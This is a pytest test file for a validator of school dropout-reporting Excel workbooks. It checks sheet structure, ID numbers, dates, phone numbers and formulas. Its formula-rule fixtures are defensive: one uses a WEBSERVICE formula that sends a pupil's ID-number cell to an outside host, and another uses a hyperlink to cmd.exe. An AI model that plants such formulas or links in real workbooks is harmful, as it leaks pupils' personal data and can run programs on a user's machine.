"""F rules (and S001–S004): each rule's failing example at its sheet, row and column; a passing near-miss is clean."""
from __future__ import annotations

import datetime as dt

import pytest

from baoxue import idcard
from rules_helpers import DROP_ID, HOME_ID, ROW1, Case, both, header_col, person, run_bad, run_good, setting

D = dt.date
E, W = "error", "warning"
DROP = "辍学"


def with_formula(sheet, column, formula, row=ROW1):
    def fn(wb):
        ws = wb[sheet]
        ws.cell(row=row, column=header_col(ws, column)).value = formula
    return fn


def with_link(sheet, column, target, row=ROW1):
    def fn(wb):
        ws = wb[sheet]
        ws.cell(row=row, column=header_col(ws, column)).hyperlink = target
    return fn


def on_cell(sheet, ref, value):
    def fn(wb):
        wb[sheet][ref].value = value
    return fn


def rename_header(sheet, old, new):
    def fn(wb):
        ws = wb[sheet]
        ws.cell(row=3, column=header_col(ws, old)).value = new
    return fn


def copy_sheet(name, title):
    def fn(wb):
        wb.copy_worksheet(wb[name]).title = title
    return fn


def drop_sheet(name):
    def fn(wb):
        del wb[name]
    return fn


BAD_BIRTH_17 = "530123" + "20131332" + "013"
BAD_BIRTH = BAD_BIRTH_17 + idcard.check_digit(BAD_BIRTH_17)
FUTURE = idcard.make("530123", D(2027, 1, 5), 3, True)
LEAP = person(D(2012, 2, 29))   # a real 29 February
X_ID = next(i for i in (idcard.make("530123", D(2013, 5, 10), s, True) for s in range(100)) if i.endswith("X"))

CASES = [
    # ------------------------------------------------------------------ structure
    Case("S001", None, [(E, "劝返记录", None, None)], bad_file=drop_sheet("劝返记录"),
         good_file=lambda wb: setattr(wb["劝返记录"], "title", " 劝返记录 ")),
    Case("S008", None, [(E, DROP, None, None)], bad_file=copy_sheet(DROP, DROP + " "),
         good_file=copy_sheet(DROP, DROP + "_旧")),
    Case("S002", None, [(E, DROP, None, "身份证号")], bad_file=rename_header(DROP, "身份证号", "证件"),
         good_file=rename_header(DROP, "身份证号", "身份证号码")),
    Case("S003", setting("封面", 模板版本="BX-2025.1"), [(W, "封面", "cover", "模板版本")]),
    Case("S004", setting("封面", 学校标识码="53012"), [(E, "封面", "cover", "学校标识码")],
         good=setting("封面", 学校标识码="５３０１２３０００１"), label="code"),
    Case("S004", setting("封面", 报送月份="九月"), [(E, "封面", "cover", "报送月份")],
         good=setting("封面", 报送月份="2026年9月"), label="month"),
    Case("S004", setting("封面", 七年级在校生数=-3), [(E, "封面", "cover", "七年级在校生数")],
         good=setting("封面", 一年级在校生数=None), label="enrolment"),   # blank = no pupils (no row in 一年级)
    Case("S004", setting("封面", 学校类型="中学"), [(E, "封面", "cover", "学校类型")], label="code-list"),
    Case("S004", setting("封面", 审核人=None), [(E, "封面", "cover", "审核人")], label="required"),
    # ------------------------------------------------------------------ format
    Case("F001", setting(DROP, 监护人电话=None), [(E, DROP, ROW1, "监护人电话")],
         good=setting(DROP, 监护人电话=" 139 1234 5678 ")),
    Case("F002", setting(DROP, 状态="已返校"), [(E, DROP, ROW1, "状态")], good=setting(DROP, 残疾="√", 留守儿童="Y")),
    Case("F003", setting(DROP, 发现日期="2026-02-30"), [(E, DROP, ROW1, "发现日期")],
         good=setting(DROP, 发现日期="2026年9月3日", 上报日期="20260903")),
    Case("F004", both(setting(DROP, 身份证号="53012320130510"), setting(DROP, 学籍号=None)),
         [(E, DROP, ROW1, "身份证号")], good=setting(DROP, 身份证号=" " + DROP_ID[:6] + " " + DROP_ID[6:] + " "),
         label="short"),
    Case("F004", setting(DROP, 身份证号=int(DROP_ID)), [(E, DROP, ROW1, "身份证号")], label="number"),
    Case("F005", setting(DROP, 身份证号=DROP_ID[:17] + ("0" if DROP_ID[17] != "0" else "1"), 学籍号=None),
         [(E, DROP, ROW1, "身份证号")],
         good=both(setting(DROP, 身份证号=X_ID.lower(), 学籍号="G" + X_ID), setting("劝返记录", 身份证号=X_ID))),
    Case("F006", setting(DROP, 身份证号=BAD_BIRTH, 学籍号="G" + BAD_BIRTH), [(E, DROP, ROW1, "身份证号")],
         good=both(setting(DROP, **LEAP, 年级="九年级"), setting("劝返记录", 身份证号=LEAP["身份证号"])),
         label="impossible"),
    Case("F006", setting(DROP, 身份证号=FUTURE, 学籍号="G" + FUTURE, 出生日期=None), [(E, DROP, ROW1, "身份证号")],
         label="future"),
    Case("F007", setting(DROP, 性别="女"), [(E, DROP, ROW1, "性别")], good=setting(DROP, 性别=" 男 ")),
    Case("F008", setting(DROP, 出生日期=D(2013, 5, 11)), [(E, DROP, ROW1, "出生日期")], good=setting(DROP, 出生日期=None)),
    Case("F009", setting(DROP, 学籍号="G" + HOME_ID), [(E, DROP, ROW1, "学籍号")],
         good=setting(DROP, 学籍号="g" + DROP_ID), label="other-id"),
    Case("F009", setting(DROP, 学籍号="L" + "5301232013ABCDEF01"), [(W, DROP, ROW1, "学籍号")], label="temporary"),
    Case("F010", setting(DROP, 监护人电话="1381234567"), [(W, DROP, ROW1, "监护人电话")],
         good=setting(DROP, 监护人电话="0871-6512 3456")),
    Case("F010", setting("封面", 联系电话="12345"), [(W, "封面", "cover", "联系电话")], label="cover"),
    Case("F011", setting(DROP, 年级="高一"), [(E, DROP, ROW1, "年级")], good=setting(DROP, 年级="初二")),
    Case("F012", setting(DROP, 姓名="张三3"), [(E, DROP, ROW1, "姓名")], good=setting(DROP, 姓名="买买提·艾力")),
    Case("F013", None, [(E, DROP, ROW1, "班级")], bad_file=with_formula(DROP, "班级", '=HYPERLINK("http://x.cn","2班")'),
         good=setting(DROP, 备注="=待核实", 班级="+1")),
    # any other formula: in a header, on 月报汇总 in place of the template's, on the hidden 代码表 or on 校验结果
    Case("F013", None, [(E, "月报汇总", 6, "C6")], bad_file=on_cell("月报汇总", "C6", '=WEBSERVICE("http://e.cn/?d="&辍学!$E$4)'),
         label="summary"),
    Case("F013", None, [(E, "代码表", 30, "A30")], bad_file=on_cell("代码表", "A30", "=1+1"), label="codes"),
    Case("F013", None, [(E, "校验结果", 3, "H3")], bad_file=on_cell("校验结果", "H3", "=NOW()"), label="findings"),
    Case("F013", None, [(E, DROP, 3, "AH3")], bad_file=on_cell(DROP, "AH3", '="备"&"注"'), label="header"),
    Case("S006", None, [(E, DROP, ROW1, "B4")], bad_file=with_link(DROP, "姓名", "file:///C:/Windows/System32/cmd.exe"),
         good=setting(DROP, 备注="file:///C:/x.exe")),
    Case("S007", None, [(W, DROP, ROW1, "B4")], bad_file=with_link(DROP, "姓名", "http://example.cn/"),
         good=setting(DROP, 备注="http://example.cn/")),
    Case("F014", setting("送教记录", 课时=0), [(E, "送教记录", ROW1, "课时")], good=setting("送教记录", 课时=2.5),
         label="zero"),
    Case("F014", setting("送教记录", 课时="两节"), [(E, "送教记录", ROW1, "课时")], label="text"),
    Case("F014", setting("送教记录", 同行人数=0), [(E, "送教记录", ROW1, "同行人数")], label="teachers"),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_failing_example(tmp_path, case):
    run_bad(tmp_path, case)


@pytest.mark.parametrize("case", [c for c in CASES if c.good or c.good_file], ids=lambda c: c.id)
def test_passing_example(tmp_path, case):
    run_good(tmp_path, case)


def test_an_id_stored_as_a_number_is_quoted_as_the_screen_shows_it(tmp_path):
    """Excel shows 530123201305100011 stored as a number as 5.30123E+17: the finding quotes that, not 18 digits the
    clerk never typed, and names the cell for the Name Box."""
    from rules_helpers import DROP_ID, check, setting
    (f,) = [f for f in check(tmp_path, setting(DROP, 身份证号=int(DROP_ID))) if f.rule == "F004"]
    assert f.value == "5.30123E+17" and "身份证号“5.30123E+17”以数字形式保存" in f.message
    assert f.cell == "E4"


def test_excel_general_format_of_long_numbers():
    from baoxue.normalize import as_excel_shows
    assert as_excel_shows(530123201305100011) == "5.30123E+17"
    assert as_excel_shows(530000000000000000) == "5.3E+17"
    assert as_excel_shows(12345678901) == "12345678901"
